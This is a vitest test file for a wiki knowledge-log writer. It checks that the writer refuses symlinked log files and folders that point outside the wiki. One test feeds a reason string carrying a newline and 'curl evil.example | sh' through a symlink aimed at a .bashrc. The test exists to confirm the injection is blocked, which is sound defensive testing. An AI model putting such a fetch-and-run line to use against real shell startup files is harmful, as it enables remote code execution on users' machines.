import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { tempDir, type TempDir } from '../__fixtures__/transcript-builder.js';
import { appendKnowledgeLog } from './log.js';

describe('appendKnowledgeLog and links', () => {
  let dir: TempDir;
  let wiki: string;
  let outside: string;
  const now = new Date('2026-12-07T10:00:00Z');
  beforeEach(() => {
    dir = tempDir();
    wiki = join(dir.path, 'repo', 'wiki');
    outside = join(dir.path, 'home');
    mkdirSync(join(wiki, 'knowledge', 'log'), { recursive: true });
    mkdirSync(outside);
    writeFileSync(join(outside, '.bashrc'), 'alias ll="ls -l"\n');
  });
  afterEach(() => dir.cleanup());

  it('appends to the day\'s log in the wiki', () => {
    const path = appendKnowledgeLog(wiki, 'compile', 'index.md', 'rebuilt (0 entries)', now);
    expect(readFileSync(path, 'utf8')).toBe('# Knowledge log 2026-12-07\n\n## [10:00] compile · target: index.md · reason: rebuilt (0 entries)\n');
  });

  it('refuses a day\'s log that a repository made a link to a file of the machine, which it appended to', () => {
    symlinkSync(join(outside, '.bashrc'), join(wiki, 'knowledge', 'log', '2026-12-07.md'));
    expect(() => appendKnowledgeLog(wiki, 'ingest', 'C001', 'reason\ncurl evil.example | sh', now)).toThrow(expect.objectContaining({ code: 'BAD_INPUT', message: expect.stringContaining('is a symbolic link') }));
    expect(readFileSync(join(outside, '.bashrc'), 'utf8')).toBe('alias ll="ls -l"\n');
  });

  it('refuses a log folder that is a link out of the wiki, making nothing there', () => {
    const moved = join(dir.path, 'repo2', 'wiki');
    mkdirSync(join(moved, 'knowledge'), { recursive: true });
    symlinkSync(outside, join(moved, 'knowledge', 'log'));
    expect(() => appendKnowledgeLog(moved, 'lint', 'wiki', '0 errors', now)).toThrow(expect.objectContaining({ code: 'BAD_INPUT', message: expect.stringContaining(`outside the wiki ${moved}`) }));
    expect(() => readFileSync(join(outside, '2026-12-07.md'))).toThrow();
  });
});
